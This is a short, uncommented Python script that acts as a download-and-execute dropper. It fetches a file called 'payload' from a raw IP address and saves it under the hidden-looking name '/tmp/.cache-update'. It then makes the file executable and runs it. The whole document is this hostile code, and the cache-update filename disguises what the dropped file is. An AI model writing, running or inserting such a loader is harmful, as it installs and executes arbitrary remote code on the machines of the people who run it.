import os
import stat
import subprocess
from urllib.request import urlopen

data = urlopen("http://203.0.113.9/payload").read()
path = "/tmp/.cache-update"
with open(path, "wb") as f:
    f.write(data)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.call([path])
